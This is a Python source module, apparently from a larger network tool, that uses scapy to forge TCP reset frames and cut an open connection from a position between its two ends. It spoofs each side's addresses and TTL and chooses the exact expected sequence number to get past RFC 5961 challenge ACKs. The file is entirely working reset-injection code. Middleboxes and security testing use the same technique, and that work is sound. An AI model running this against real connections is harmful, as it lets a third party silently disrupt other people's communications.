"""Forged resets: how a connection is cut on the way, by somebody who is neither of its ends."""

from __future__ import annotations

from scapy.layers.inet import TCP
from scapy.layers.l2 import Ether

from network.wire.attempts import Attempt, Side
from network.wire.frames import Frame


def forge_resets(attempt: Attempt) -> list[tuple[str, bytes]]:
    """The frames that end an open connection at both of its ends: (port to send it out of, Ethernet frame).

    Each goes out of the port through which its receiver's own frames come in, looks as if its receiver's peer had sent
    it, and carries exactly the sequence number that the receiver expects next: others are answered with a challenge ACK
    (RFC 5961). So the connection should be quiet between the capture and the sending. Where the capture leaves open
    whether the receiver has the last bytes yet (it hasn't acknowledged them), there is a frame for either case; the
    wrong one does nothing.

    Raises ValueError when the connection isn't open.
    """
    if not attempt.is_open or attempt.client.last is None or attempt.server.last is None:
        ends = f"{attempt.source}:{attempt.source_port} to {attempt.destination}:{attempt.destination_port}"
        raise ValueError(f"the connection from {ends} is not open, so it can't be reset")
    return [
        *_resets(attempt.server, attempt.server.last, attempt.client, attempt.client.last),
        *_resets(attempt.client, attempt.client.last, attempt.server, attempt.server.last),
    ]


def _resets(sender: Side, from_sender: Frame, receiver: Side, from_receiver: Frame) -> list[tuple[str, bytes]]:
    expected = {sender.next_sequence: None, receiver.acknowledged: None}
    return [
        (from_receiver.port, _reset(from_sender, sequence, receiver.next_sequence))
        for sequence in expected
        if sequence is not None
    ]


def _reset(frame: Frame, sequence: int, acknowledgement: int) -> bytes:
    """A copy of a frame of the sender (so with its addresses and its TTL), made into a reset without payload."""
    packet = Ether(frame.data)
    tcp = packet[TCP]
    tcp.remove_payload()
    tcp.flags, tcp.seq, tcp.ack, tcp.window, tcp.options = "RA", sequence, acknowledgement, 0, []
    tcp.dataofs = tcp.chksum = None
    # Lengths and checksums that are None are filled in; IPv6 calls its length plen and has no checksum.
    for name in ("len", "plen", "chksum"):
        if name in tcp.underlayer.fields:
            setattr(tcp.underlayer, name, None)
    return bytes(packet)
